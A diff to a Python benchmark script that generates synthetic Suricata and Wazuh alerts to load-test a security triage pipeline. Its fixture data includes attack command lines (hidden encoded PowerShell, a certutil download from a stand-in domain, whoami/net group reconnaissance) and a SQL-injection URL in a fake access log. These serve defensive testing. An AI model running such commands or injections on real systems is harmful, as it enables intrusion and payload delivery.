@@ -54,6 +54,11 @@ REPO = Path(__file__).resolve().parents[1]
 if str(REPO) not in sys.path:  # run from a checkout without installing
     sys.path.insert(0, str(REPO))
 
+from devtools.vendor_records.attack import Mitre  # noqa: E402
+from devtools.vendor_records.common import eve_time  # noqa: E402
+from devtools.vendor_records.suricata import eve_alert, eve_metadata  # noqa: E402
+from devtools.vendor_records.wazuh import wazuh_record, wazuh_rule, windows_system  # noqa: E402
+
 DEFAULT_SIZES = (25_000, 50_000, 100_000)
 QUICK_SIZES = (2_000, 4_000)
 DEFAULT_SEED = 20261109
@@ -70,15 +75,20 @@ T = TypeVar("T")
 # The synthetic alert stream
 # =============================================================================================
 
-_FIRST = ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
-          "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter",
-          "yusuf", "zoe", "amir", "bea", "chen")
-_LAST = ("martin", "nguyen", "diaz", "schmidt", "rossi", "kowalski", "okafor", "tanaka", "silva",
-         "novak", "berg", "haddad", "moreau", "larsen", "costa", "fischer")
-_DEPTS = ("FIN", "HR", "ENG", "OPS", "SAL", "MKT", "IT", "LEG")
-_SERVER_ROLES = ("FS", "WEB", "APP", "DB", "SQL", "MAIL", "VPN", "BK")
-_WORDS = ("cdn", "update", "check", "secure", "login", "portal", "files", "sync", "cloud",
-          "invoice", "billing", "docs", "mail", "track", "static", "api", "telemetry", "node")
+_FIRST = tuple(
+    "alice bob carol dave erin frank grace heidi ivan judy mallory niaj olivia peggy rupert sybil "
+    "trent victor walter yusuf zoe amir bea chen".split()
+)
+_LAST = tuple(
+    "martin nguyen diaz schmidt rossi kowalski okafor tanaka silva novak berg haddad moreau "
+    "larsen costa fischer".split()
+)
+_DEPTS = tuple("FIN HR ENG OPS SAL MKT IT LEG".split())
+_SERVER_ROLES = tuple("FS WEB APP DB SQL MAIL VPN BK".split())
+_WORDS = tuple(
+    "cdn update check secure login portal files sync cloud invoice billing docs mail track "
+    "static api telemetry node".split()
+)
 _USER_AGENTS = (
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/131.0.0.0 Safari/537.36",
@@ -121,27 +131,36 @@ class Population:
     def build(cls, rng: random.Random, workstations: int = 320, servers: int = 48) -> Population:
         users = [f"{f}.{last}" for last in _LAST for f in _FIRST][:300]
         rng.shuffle(users)
-        users = ["alice.martin", "bob.nguyen", "carol.diaz", *[u for u in users if u not in (
-            "alice.martin", "bob.nguyen", "carol.diaz")]][:300]
+        users = [
+            "alice.martin",
+            "bob.nguyen",
+            "carol.diaz",
+            *[u for u in users if u not in ("alice.martin", "bob.nguyen", "carol.diaz")],
+        ][:300]
         admins = ["bob.nguyen", *users[3:14]]
-        hosts = [Host("LT-FIN-042", "10.20.4.42", "alice.martin", False),
-                 Host("LT-IT-007", "10.20.6.7", "bob.nguyen", False)]
+        hosts = [
+            Host("LT-FIN-042", "10.20.4.42", "alice.martin", False),
+            Host("LT-IT-007", "10.20.6.7", "bob.nguyen", False),
+        ]
         for i in range(workstations - len(hosts)):
             kind = "LT" if i % 3 else "DT"
             name = f"{kind}-{_DEPTS[i % len(_DEPTS)]}-{100 + i:03d}"
-            hosts.append(Host(name, f"10.20.{10 + i // 200}.{10 + i % 200}", users[i % 300],
-                              False))
-        server_hosts = [Host("SRV-FS-01", "10.10.1.15", "it-ops", True),
-                        Host("SRV-WEB-02", "10.10.1.22", "web-team", True),
-                        Host("SRV-APP-03", "10.10.1.33", "it-ops", True),
-                        Host("SRV-DB-01", "10.10.1.20", "finance-apps", True)]
+            hosts.append(Host(name, f"10.20.{10 + i // 200}.{10 + i % 200}", users[i % 300], False))
+        server_hosts = [
+            Host("SRV-FS-01", "10.10.1.15", "it-ops", True),
+            Host("SRV-WEB-02", "10.10.1.22", "web-team", True),
+            Host("SRV-APP-03", "10.10.1.33", "it-ops", True),
+            Host("SRV-DB-01", "10.10.1.20", "finance-apps", True),
+        ]
         for i in range(servers - len(server_hosts)):
             role = _SERVER_ROLES[i % len(_SERVER_ROLES)]
-            server_hosts.append(Host(f"SRV-{role}-{10 + i:02d}", f"10.10.2.{10 + i}", "it-ops",
-                                     True))
+            server_hosts.append(
+                Host(f"SRV-{role}-{10 + i:02d}", f"10.10.2.{10 + i}", "it-ops", True)
+            )
         external = ["198.51.100.77", "198.51.100.23", "203.0.113.45"]
-        pool = [f"{net}.{n}" for net in ("192.0.2", "198.51.100", "203.0.113")
-                for n in range(1, 255)]
+        pool = [
+            f"{net}.{n}" for net in ("192.0.2", "198.51.100", "203.0.113") for n in range(1, 255)
+        ]
         rng.shuffle(pool)
         external += [ip for ip in pool if ip not in external][:597]
         domains = ["cdn-update-check.example", "northwlnd-billing.example"]
@@ -152,9 +171,14 @@ class Population:
         hashes = ["5f4dcc3b5aa765d61d8327deb882cf99e4c8b1f3a1d2e3f40516273849aabbcc"]
         hashes += [f"{rng.getrandbits(256):064x}" for _ in range(149)]
         return cls(
-            hosts=tuple(hosts), servers=tuple(server_hosts), users=tuple(users),
-            admins=tuple(admins), external_ips=tuple(external), domains=tuple(domains),
-            hashes=tuple(hashes), scanner=Host("SCAN-01", "10.0.5.10", "secops", True),
+            hosts=tuple(hosts),
+            servers=tuple(server_hosts),
+            users=tuple(users),
+            admins=tuple(admins),
+            external_ips=tuple(external),
+            domains=tuple(domains),
+            hashes=tuple(hashes),
+            scanner=Host("SCAN-01", "10.0.5.10", "secops", True),
         )
 
 
@@ -168,21 +192,22 @@ class Detection:
     title: str
     level: int  # Suricata priority 1-3, or Wazuh rule level 0-16
     category: str = ""
-    mitre: tuple[tuple[str, str, str], ...] = ()  # (technique id, technique name, tactic)
+    mitre: tuple[Mitre, ...] = ()  # names as this product spells them
 
 
-_MITRE = {
-    "c2": (("T1071", "Application_Layer_Protocol", "Command_And_Control"),),
-    "exfil": (("T1041", "Exfiltration_Over_C2_Channel", "Exfiltration"),),
-    "scan": (("T1595", "Active_Scanning", "Reconnaissance"),),
-    "lateral": (("T1021", "Remote_Services", "Lateral_Movement"),),
-    "dns": (("T1071.004", "DNS", "Command_And_Control"),),
-    "bruteforce": (("T1110", "Brute Force", "Credential Access"),),
-    "pth": (("T1550.002", "Pass the Hash", "Lateral Movement"),),
-    "powershell": (("T1059.001", "PowerShell", "Execution"),),
-    "certutil": (("T1105", "Ingress Tool Transfer", "Command and Control"),),
-    "service": (("T1543.003", "Windows Service", "Persistence"),),
-    "web": (("T1190", "Exploit Public-Facing Application", "Initial Access"),),
+# fmt: off
+_MITRE: dict[str, tuple[Mitre, ...]] = {
+    "c2": (Mitre("T1071", "Application_Layer_Protocol", "Command_And_Control"),),
+    "exfil": (Mitre("T1041", "Exfiltration_Over_C2_Channel", "Exfiltration"),),
+    "scan": (Mitre("T1595", "Active_Scanning", "Reconnaissance"),),
+    "lateral": (Mitre("T1021", "Remote_Services", "Lateral_Movement"),),
+    "dns": (Mitre("T1071.004", "DNS", "Command_And_Control"),),
+    "bruteforce": (Mitre("T1110", "Brute Force", "Credential Access"),),
+    "pth": (Mitre("T1550.002", "Pass the Hash", "Lateral Movement"),),
+    "powershell": (Mitre("T1059.001", "PowerShell", "Execution"),),
+    "certutil": (Mitre("T1105", "Ingress Tool Transfer", "Command and Control"),),
+    "service": (Mitre("T1543.003", "Windows Service", "Persistence"),),
+    "web": (Mitre("T1190", "Exploit Public-Facing Application", "Initial Access"),),
     "fim": (),
 }
 
@@ -257,6 +282,8 @@ WAZUH_RULES = (
     Detection("wazuh", "web_attack", "31151", "Multiple web server 400 error codes from same "
               "source ip.", 10, "web", _MITRE["web"]),
 )
+
+# fmt: on
 
 # Episode scenarios: (weight, detection kinds that may fire in it)
 _SCENARIOS: tuple[tuple[float, tuple[str, ...]], ...] = (
@@ -365,11 +392,16 @@ class AlertStream:
             user = rng.choice(pop.admins) if rng.random() < 0.5 else user
         minutes = rng.choice((5, 15, 30, 60, 120, 240))
         return _Episode(
-            detections=detections, host=host, user=user, server=server,
-            external_ips=tuple(rng.choices(pop.external_ips, cum_weights=self._ip_cw,
-                                           k=rng.randint(1, 4))),
-            domains=tuple(rng.choices(pop.domains, cum_weights=self._domain_cw,
-                                      k=rng.randint(1, 3))),
+            detections=detections,
+            host=host,
+            user=user,
+            server=server,
+            external_ips=tuple(
+                rng.choices(pop.external_ips, cum_weights=self._ip_cw, k=rng.randint(1, 4))
+            ),
+            domains=tuple(
+                rng.choices(pop.domains, cum_weights=self._domain_cw, k=rng.randint(1, 3))
+            ),
             sha256=rng.choices(pop.hashes, cum_weights=self._hash_cw)[0],
             ends=now + timedelta(minutes=minutes * rng.uniform(0.5, 1.5)),
             remaining=1 + int(rng.expovariate(1 / 4)),
@@ -394,58 +426,69 @@ class AlertStream:
         elif kind == "internal_scan":
             src, dst = self.population.scanner.ip, ep.server.ip
             dport, proto_app = rng.choice((80, 443, 5800, 8443)), "http"
-        meta: dict[str, Any] = {
-            "created_at": ["2024_05_02"], "updated_at": ["2026_10_30"],
-            "signature_severity": [("Major", "Minor", "Informational")[det.level - 1]],
-        }
-        if det.mitre:
-            meta["mitre_technique_id"] = [m[0] for m in det.mitre]
-            meta["mitre_technique_name"] = [m[1] for m in det.mitre]
-            meta["mitre_tactic_name"] = [m[2] for m in det.mitre]
+        meta = eve_metadata(
+            ("Major", "Minor", "Informational")[det.level - 1],
+            det.mitre,
+            created="2024_05_02",
+            updated="2026_10_30",
+        )
         start = when - timedelta(milliseconds=rng.randint(1, 5000))
-        record: dict[str, Any] = {
-            "timestamp": _suricata_time(when),
-            "flow_id": rng.getrandbits(51),
-            "in_iface": "ens192",
-            "event_type": "alert",
-            "src_ip": src,
-            "src_port": rng.randint(1024, 65535),
-            "dest_ip": dst,
-            "dest_port": dport,
-            "proto": "UDP" if proto_app == "dns" else "TCP",
-            "direction": "to_server",
-            "alert": {
-                "action": "allowed", "gid": 1, "signature_id": int(det.rule_id),
-                "rev": rng.randint(1, 9), "signature": det.title, "category": det.category,
-                "severity": det.level, "metadata": meta,
-            },
-        }
-        if proto_app:
-            record["app_proto"] = proto_app
+        flow_id, sport, rev = rng.getrandbits(51), rng.randint(1024, 65535), rng.randint(1, 9)
+        extra: dict[str, Any] = {}
         if proto_app == "tls":
             ja3 = hashlib.md5(det.rule_id.encode(), usedforsecurity=False).hexdigest()
-            record["tls"] = {"sni": domain, "version": "TLS 1.2", "ja3": {"hash": ja3}}
+            extra["tls"] = {"sni": domain, "version": "TLS 1.2", "ja3": {"hash": ja3}}
         elif proto_app == "http":
             host = domain if kind == "http_out" else ep.server.ip
-            record["http"] = {
-                "hostname": host, "url": f"/{rng.choice(_WORDS)}/{rng.randint(1, 99999)}",
-                "http_user_agent": rng.choice(_USER_AGENTS), "http_method": "POST",
-                "protocol": "HTTP/1.1", "status": rng.choice((200, 404)),
+            extra["http"] = {
+                "hostname": host,
+                "url": f"/{rng.choice(_WORDS)}/{rng.randint(1, 99999)}",
+                "http_user_agent": rng.choice(_USER_AGENTS),
+                "http_method": "POST",
+                "protocol": "HTTP/1.1",
+                "status": rng.choice((200, 404)),
                 "length": rng.randint(0, 5000),
             }
         elif proto_app == "dns":
-            record["dns"] = {"type": "query", "id": rng.randint(1, 65535), "rrname": domain,
-                             "rrtype": "A", "tx_id": 0}
+            extra["dns"] = {
+                "type": "query",
+                "id": rng.randint(1, 65535),
+                "rrname": domain,
+                "rrtype": "A",
+                "tx_id": 0,
+            }
         elif proto_app == "smb":
-            record["smb"] = {"id": rng.randint(1, 50), "dialect": "3.1.1",
-                             "command": "SMB2_COMMAND_CREATE", "filename": "PSEXESVC.exe",
-                             "share": f"\\\\{ep.server.name}\\ADMIN$"}
-        record["flow"] = {
-            "pkts_toserver": rng.randint(1, 5000), "pkts_toclient": rng.randint(1, 5000),
-            "bytes_toserver": rng.randint(60, 10**7), "bytes_toclient": rng.randint(60, 10**6),
-            "start": _suricata_time(start),
+            extra["smb"] = {
+                "id": rng.randint(1, 50),
+                "dialect": "3.1.1",
+                "command": "SMB2_COMMAND_CREATE",
+                "filename": "PSEXESVC.exe",
+                "share": f"\\\\{ep.server.name}\\ADMIN$",
+            }
+        extra["flow"] = {
+            "pkts_toserver": rng.randint(1, 5000),
+            "pkts_toclient": rng.randint(1, 5000),
+            "bytes_toserver": rng.randint(60, 10**7),
+            "bytes_toclient": rng.randint(60, 10**6),
+            "start": eve_time(start),
         }
-        return record
+        return eve_alert(
+            when,
+            flow_id=flow_id,
+            src=src,
+            sport=sport,
+            dst=dst,
+            dport=dport,
+            sid=int(det.rule_id),
+            rev=rev,
+            signature=det.title,
+            category=det.category,
+            priority=det.level,
+            metadata=meta,
+            proto="UDP" if proto_app == "dns" else "TCP",
+            app_proto=proto_app or None,
+            extra=extra,
+        )
 
     # -- Wazuh alerts.json -------------------------------------------------------------------
 
@@ -454,122 +497,163 @@ class AlertStream:
         self._serial += 1
         kind = det.kind
         external, domain = rng.choice(ep.external_ips), rng.choice(ep.domains)
-        on_server = kind in ("win_logon_fail", "win_logon_ok", "sshd_fail", "web_attack",
-                             "syscheck") or (kind == "service_install" and rng.random() < 0.5)
+        on_server = kind in (
+            "win_logon_fail",
+            "win_logon_ok",
+            "sshd_fail",
+            "web_attack",
+            "syscheck",
+        ) or (kind == "service_install" and rng.random() < 0.5)
         agent_host = ep.server if on_server else ep.host
         if kind == "web_attack" and rng.random() < 0.3:
             agent_host = self.population.servers[1]  # the public web server takes most of it
-        agent_no = self._agent_no[agent_host.name]
-        epoch = int(when.timestamp())
-        rule: dict[str, Any] = {
-            "level": det.level, "description": det.title, "id": det.rule_id,
-            "firedtimes": rng.randint(1, 40), "mail": det.level >= 12,
-            "groups": ["windows" if kind.startswith(("win", "sysmon", "service")) else "ossec",
-                       det.category],
-        }
-        if det.mitre:
-            rule["mitre"] = {"id": [m[0] for m in det.mitre],
-                             "technique": [m[1] for m in det.mitre],
-                             "tactic": [m[2] for m in det.mitre]}
-        record: dict[str, Any] = {
-            "timestamp": _wazuh_time(when),
-            "rule": rule,
-            "agent": {"id": f"{agent_no:03d}", "name": agent_host.name, "ip": agent_host.ip},
-            "manager": {"name": "wazuh-mgr-01"},
-            "id": f"{epoch}.{self._serial}",
-            "decoder": {"name": "windows_eventchannel"},
-        }
+        group = "windows" if kind.startswith(("win", "sysmon", "service")) else "ossec"
+        rule = wazuh_rule(
+            det.rule_id,
+            det.level,
+            det.title,
+            [group, det.category],
+            firedtimes=rng.randint(1, 40),
+            mitre=det.mitre,
+        )
         user = ep.user
+        decoder = predecoder = syscheck = None
+        data: dict[str, Any] | None = None
+        location, full_log = "EventChannel", None
         if kind in ("win_logon_fail", "win_logon_ok"):
             event_id = "4625" if kind == "win_logon_fail" else "4624"
-            record["data"] = {"win": {
-                "system": _win_system(event_id, "Microsoft-Windows-Security-Auditing",
-                                      agent_host.name, when, rng),
-                "eventdata": {
-                    "targetUserName": user, "targetDomainName": "NORTHWIND",
-                    "logonType": rng.choice(("3", "10")), "workstationName": ep.host.name,
-                    "ipAddress": ep.host.ip, "ipPort": str(rng.randint(1024, 65535)),
-                    "authenticationPackageName": "NTLM", "logonProcessName": "NtLmSsp",
-                },
-            }}
-            record["location"] = "EventChannel"
+            data = {
+                "win": {
+                    "system": _win_system(
+                        event_id, "Microsoft-Windows-Security-Auditing", agent_host.name, when, rng
+                    ),
+                    "eventdata": {
+                        "targetUserName": user,
+                        "targetDomainName": "NORTHWIND",
+                        "logonType": rng.choice(("3", "10")),
+                        "workstationName": ep.host.name,
+                        "ipAddress": ep.host.ip,
+                        "ipPort": str(rng.randint(1024, 65535)),
+                        "authenticationPackageName": "NTLM",
+                        "logonProcessName": "NtLmSsp",
+                    },
+                }
+            }
         elif kind == "sysmon_proc":
-            image, cmd = rng.choice((
-                ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                 "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
-                ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all & net group"),
-                ("C:\\Windows\\System32\\certutil.exe",
-                 f"certutil.exe -urlcache -split -f http://{domain}/a.bin a.exe"),
-            ))
-            record["data"] = {"win": {
-                "system": _win_system("1", "Microsoft-Windows-Sysmon", ep.host.name, when, rng),
-                "eventdata": {
-                    "utcTime": when.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
-                    "processId": str(rng.randint(100, 20000)), "image": image,
-                    "commandLine": cmd, "user": f"NORTHWIND\\{user}",
-                    "hashes": f"SHA256={ep.sha256.upper()}",
-                    "parentImage": "C:\\Windows\\explorer.exe",
-                    "parentProcessId": str(rng.randint(100, 20000)),
-                    "parentCommandLine": "C:\\Windows\\Explorer.EXE",
-                },
-            }}
-            record["location"] = "EventChannel"
+            image, cmd = rng.choice(
+                (
+                    (
+                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                        "powershell.exe -nop -w hidden -enc "
+                        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+                    ),
+                    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all & net group"),
+                    (
+                        "C:\\Windows\\System32\\certutil.exe",
+                        f"certutil.exe -urlcache -split -f http://{domain}/a.bin a.exe",
+                    ),
+                )
+            )
+            data = {
+                "win": {
+                    "system": _win_system("1", "Microsoft-Windows-Sysmon", ep.host.name, when, rng),
+                    "eventdata": {
+                        "utcTime": when.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
+                        "processId": str(rng.randint(100, 20000)),
+                        "image": image,
+                        "commandLine": cmd,
+                        "user": f"NORTHWIND\\{user}",
+                        "hashes": f"SHA256={ep.sha256.upper()}",
+                        "parentImage": "C:\\Windows\\explorer.exe",
+                        "parentProcessId": str(rng.randint(100, 20000)),
+                        "parentCommandLine": "C:\\Windows\\Explorer.EXE",
+                    },
+                }
+            }
         elif kind == "service_install":
-            record["data"] = {"win": {
-                "system": _win_system("7045", "Service Control Manager", agent_host.name, when,
-                                      rng),
-                "eventdata": {"serviceName": f"svc{ep.sha256[:6]}",
-                              "imagePath": f"\"C:\\ProgramData\\{ep.sha256[:8]}\\svc.exe\"",
-                              "serviceType": "user mode service", "startType": "auto start",
-                              "accountName": "LocalSystem"},
-            }}
-            record["location"] = "EventChannel"
+            data = {
+                "win": {
+                    "system": _win_system(
+                        "7045", "Service Control Manager", agent_host.name, when, rng
+                    ),
+                    "eventdata": {
+                        "serviceName": f"svc{ep.sha256[:6]}",
+                        "imagePath": f'"C:\\ProgramData\\{ep.sha256[:8]}\\svc.exe"',
+                        "serviceType": "user mode service",
+                        "startType": "auto start",
+                        "accountName": "LocalSystem",
+                    },
+                }
+            }
         elif kind == "syscheck":
-            path = rng.choice(("/etc/passwd", "/etc/ssh/sshd_config", "/usr/bin/sudo",
-                               "C:\\Windows\\System32\\drivers\\etc\\hosts"))
-            record["decoder"] = {"name": "syscheck_integrity_changed"}
-            record["syscheck"] = {"path": path, "mode": "realtime", "event": "modified",
-                                  "sha256_after": ep.sha256,
-                                  "size_after": str(rng.randint(1, 10**5))}
-            record["location"] = "syscheck"
-            record["full_log"] = f"File '{path}' modified"
+            path = rng.choice(
+                (
+                    "/etc/passwd",
+                    "/etc/ssh/sshd_config",
+                    "/usr/bin/sudo",
+                    "C:\\Windows\\System32\\drivers\\etc\\hosts",
+                )
+            )
+            decoder = {"name": "syscheck_integrity_changed"}
+            syscheck = {
+                "path": path,
+                "mode": "realtime",
+                "event": "modified",
+                "sha256_after": ep.sha256,
+                "size_after": str(rng.randint(1, 10**5)),
+            }
+            location, full_log = "syscheck", f"File '{path}' modified"
         elif kind == "sshd_fail":
             name = rng.choice(("admin", "oracle", "test", "ubuntu", "deploy", "git"))
             port = rng.randint(1024, 65535)
-            record["decoder"] = {"name": "sshd", "parent": "sshd"}
-            record["predecoder"] = {"program_name": "sshd", "hostname": agent_host.name.lower()}
-            record["data"] = {"srcip": external, "srcport": str(port), "srcuser": name}
-            record["location"] = "/var/log/auth.log"
-            record["full_log"] = (f"{when:%b %d %H:%M:%S} {agent_host.name.lower()} sshd[4242]: "
-                                  f"Invalid user {name} from {external} port {port}")
+            decoder = {"name": "sshd", "parent": "sshd"}
+            predecoder = {"program_name": "sshd", "hostname": agent_host.name.lower()}
+            data = {"srcip": external, "srcport": str(port), "srcuser": name}
+            location = "/var/log/auth.log"
+            full_log = (
+                f"{when:%b %d %H:%M:%S} {agent_host.name.lower()} sshd[4242]: "
+                f"Invalid user {name} from {external} port {port}"
+            )
         else:  # web_attack
             src = external if rng.random() < 0.8 else self.population.scanner.ip
             url = f"/index.php?id={rng.randint(1, 999)}%27%20OR%201=1--"
-            record["decoder"] = {"name": "web-accesslog"}
-            record["data"] = {"protocol": "GET", "srcip": src, "id": "200", "url": url}
-            record["location"] = "/var/log/nginx/access.log"
-            record["full_log"] = (f"{src} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] \"GET {url} "
-                                  "HTTP/1.1\" 200 512 \"-\" \"sqlmap/1.8\"")
-        return record
+            decoder = {"name": "web-accesslog"}
+            data = {"protocol": "GET", "srcip": src, "id": "200", "url": url}
+            location = "/var/log/nginx/access.log"
+            full_log = (
+                f'{src} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "GET {url} '
+                'HTTP/1.1" 200 512 "-" "sqlmap/1.8"'
+            )
+        return wazuh_record(
+            when,
+            agent_id=f"{self._agent_no[agent_host.name]:03d}",
+            agent_name=agent_host.name,
+            agent_ip=agent_host.ip,
+            alert_id=f"{int(when.timestamp())}.{self._serial}",
+            rule=rule,
+            location=location,
+            decoder=decoder,
+            predecoder=predecoder,
+            data=data,
+            syscheck=syscheck,
+            full_log=full_log,
+        )
 
 
 def _win_system(
     event_id: str, provider: str, computer: str, when: datetime, rng: random.Random
-) -> dict[str, str]:
-    return {
-        "providerName": provider, "eventID": event_id, "level": "0", "channel": "Security",
-        "computer": f"{computer}.northwind.example",
-        "systemTime": when.strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z",
-        "eventRecordID": str(rng.randint(10**5, 10**7)), "severityValue": "AUDIT_SUCCESS",
-    }
-
-
-def _suricata_time(when: datetime) -> str:
-    return when.strftime("%Y-%m-%dT%H:%M:%S.%f+0000")
-
-
-def _wazuh_time(when: datetime) -> str:
-    return when.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "+0000"
+) -> dict[str, Any]:
+    """``data.win.system`` as the benchmark writes it: always the Security channel, level 0."""
+    return windows_system(
+        when,
+        f"{computer}.northwind.example",
+        provider=provider,
+        event_id=event_id,
+        channel="Security",
+        record_id=str(rng.randint(10**5, 10**7)),
+        severity="AUDIT_SUCCESS",
+        level="0",
+    )
 
 
 @dataclass
@@ -589,7 +673,11 @@ class Dataset:
 
 
 def write_dataset(
-    folder: Path, count: int, seed: int, rate: float, suffix: str = ".json",
+    folder: Path,
+    count: int,
+    seed: int,
+    rate: float,
+    suffix: str = ".json",
     layout: str = "daily",
 ) -> Dataset:
     """Write ``count`` alerts as files laid out as the tools themselves write them.
@@ -630,9 +718,15 @@ def write_dataset(
             handle.close()
     assert first is not None and last is not None
     return Dataset(
-        folder=str(folder), alerts=count, by_source=dict(by_source), files=len(handles),
-        bytes=size, sha256=digest.hexdigest(), first_time=first.isoformat(),
-        last_time=last.isoformat(), out_of_order=out_of_order,
+        folder=str(folder),
+        alerts=count,
+        by_source=dict(by_source),
+        files=len(handles),
+        bytes=size,
+        sha256=digest.hexdigest(),
+        first_time=first.isoformat(),
+        last_time=last.isoformat(),
+        out_of_order=out_of_order,
         seconds=time.perf_counter() - started,
     )
 
@@ -684,8 +778,10 @@ class _Sampler:
         picked = self.samples[step - 1 :: step]
         if picked[-1] is not self.samples[-1]:
             picked.append(self.samples[-1])
-        return [{"done": d, "seconds": round(s, 3), "rss_mib": round(_mib(r), 1), "probe": p}
-                for d, s, r, p in picked]
+        return [
+            {"done": d, "seconds": round(s, 3), "rss_mib": round(_mib(r), 1), "probe": p}
+            for d, s, r, p in picked
+        ]
 
 
 def _stage_ingest(data_dir: str, db: str, now_iso: str, trace: bool) -> dict[str, Any]:
@@ -702,23 +798,31 @@ def _stage_ingest(data_dir: str, db: str, now_iso: str, trace: bool) -> dict[str
         tracemalloc.start()
     sampler = _Sampler()
     wall = time.perf_counter()
-    report = pipeline.ingest([Path(data_dir)], store, IngestOptions(),
-                             datetime.fromisoformat(now_iso), sampler)
+    report = pipeline.ingest(
+        [Path(data_dir)], store, IngestOptions(), datetime.fromisoformat(now_iso), sampler
+    )
     wall = time.perf_counter() - wall
     heap_peak = tracemalloc.get_traced_memory()[1] if trace else None
     tracemalloc.stop()
     counts = store.counts()
     store.close()
     return {
-        "seconds": report.seconds["ingest"], "wall_seconds": wall,
-        "import_seconds": import_seconds, "files": report.files,
-        "alerts_in": report.counts.alerts_in, "normalized": report.counts.normalized,
-        "quarantined": report.counts.quarantined, "new_alerts": report.new_alerts,
-        "stored_alerts": counts["alerts"], "by_source": dict(report.counts.by_source),
-        "baseline_rss_mib": _mib(baseline), "peak_rss_mib": _mib(_peak_rss_kib()),
+        "seconds": report.seconds["ingest"],
+        "wall_seconds": wall,
+        "import_seconds": import_seconds,
+        "files": report.files,
+        "alerts_in": report.counts.alerts_in,
+        "normalized": report.counts.normalized,
+        "quarantined": report.counts.quarantined,
+        "new_alerts": report.new_alerts,
+        "stored_alerts": counts["alerts"],
+        "by_source": dict(report.counts.by_source),
+        "baseline_rss_mib": _mib(baseline),
+        "peak_rss_mib": _mib(_peak_rss_kib()),
         "end_rss_mib": _mib(_rss_kib()),
         "heap_peak_mib": heap_peak / 2**20 if heap_peak is not None else None,
-        "rss_samples": sampler.thinned(), "db_bytes": _db_bytes(Path(db)),
+        "rss_samples": sampler.thinned(),
+        "db_bytes": _db_bytes(Path(db)),
     }
 
 
@@ -755,27 +859,35 @@ def _stage_correlate(db: str, now_iso: str, trace: bool) -> dict[str, Any]:
     tracemalloc.stop()
     correlator = instances[-1] if instances else None
     open_samples = [p for _, _, _, p in sampler.samples if p is not None]
-    sizes = sorted(r[0] for r in store.conn.execute(
-        "SELECT alert_count FROM cases WHERE merged_into IS NULL"))
+    sizes = sorted(
+        r[0] for r in store.conn.execute("SELECT alert_count FROM cases WHERE merged_into IS NULL")
+    )
     merged = store.conn.execute(
-        "SELECT COUNT(*) FROM cases WHERE merged_into IS NOT NULL").fetchone()[0]
-    unassigned = store.conn.execute(
-        "SELECT COUNT(*) FROM alerts WHERE case_id IS NULL").fetchone()[0]
+        "SELECT COUNT(*) FROM cases WHERE merged_into IS NOT NULL"
+    ).fetchone()[0]
+    unassigned = store.conn.execute("SELECT COUNT(*) FROM alerts WHERE case_id IS NULL").fetchone()[
+        0
+    ]
     store.close()
     return {
-        "seconds": report.seconds["correlate"], "wall_seconds": wall,
-        "alerts": sum(report.joins.values()), "joins": dict(report.joins),
+        "seconds": report.seconds["correlate"],
+        "wall_seconds": wall,
+        "alerts": sum(report.joins.values()),
+        "joins": dict(report.joins),
         "unassigned_after": unassigned,
-        "cases": len(sizes), "merged_cases": merged,
+        "cases": len(sizes),
+        "merged_cases": merged,
         "case_alerts": _distribution([float(s) for s in sizes]),
         "open_entities_end": correlator.open_entities if correlator else None,
         "open_entities_max": max(open_samples) if open_samples else None,
         "open_cases_end": len(correlator._cases) if correlator else None,
         "expiry_heap_end": len(correlator._expiry) if correlator else None,
-        "baseline_rss_mib": _mib(baseline), "peak_rss_mib": _mib(_peak_rss_kib()),
+        "baseline_rss_mib": _mib(baseline),
+        "peak_rss_mib": _mib(_peak_rss_kib()),
         "end_rss_mib": _mib(_rss_kib()),
         "heap_peak_mib": heap_peak / 2**20 if heap_peak is not None else None,
-        "samples": sampler.thinned(), "db_bytes": _db_bytes(Path(db)),
+        "samples": sampler.thinned(),
+        "db_bytes": _db_bytes(Path(db)),
     }
 
 
@@ -830,17 +942,22 @@ def _stage_analyse(db: str, now_iso: str, max_cases: int) -> dict[str, Any]:
         key = "1-5" if n <= 5 else "6-50" if n <= 50 else "51-500" if n <= 500 else ">500"
         buckets[key].append(ms)
     return {
-        "cases_available": available, "cases": len(ids), "seconds": report.seconds["analyse"],
+        "cases_available": available,
+        "cases": len(ids),
+        "seconds": report.seconds["analyse"],
         "wall_seconds": total,
         "setup_seconds": (runs[0][0] - started) if runs else None,
-        "case_ms": _distribution(per_case), "graph_ms": _distribution(graph),
+        "case_ms": _distribution(per_case),
+        "graph_ms": _distribution(graph),
         "case_ms_by_alerts": {k: _distribution(v) for k, v in buckets.items() if v},
         "case_alerts": _distribution([float(sizes.get(i, 0)) for i in ids]),
         "cases_per_second": len(ids) / sum(per_case) * 1000 if per_case else None,
         "status": dict(Counter(s.status for s in report.cases_analysed)),
-        "verdict": dict(Counter(s.analysis.verdict if s.analysis else "none"
-                                for s in report.cases_analysed)),
-        "baseline_rss_mib": _mib(baseline), "peak_rss_mib": _mib(_peak_rss_kib()),
+        "verdict": dict(
+            Counter(s.analysis.verdict if s.analysis else "none" for s in report.cases_analysed)
+        ),
+        "baseline_rss_mib": _mib(baseline),
+        "peak_rss_mib": _mib(_peak_rss_kib()),
     }
 
 
@@ -863,18 +980,26 @@ def _stage_examples(repeat: int) -> dict[str, Any]:
             report = pipeline.triage([EXAMPLES], settings, store, now=EXAMPLES_NOW)
             total = time.perf_counter() - begin
             cases = len(report.cases_analysed)
-            runs.append({
-                "seconds": total, "stages": dict(report.seconds),
-                "alerts_in": report.counts.alerts_in, "normalized": report.counts.normalized,
-                "quarantined": report.counts.quarantined, "cases": cases,
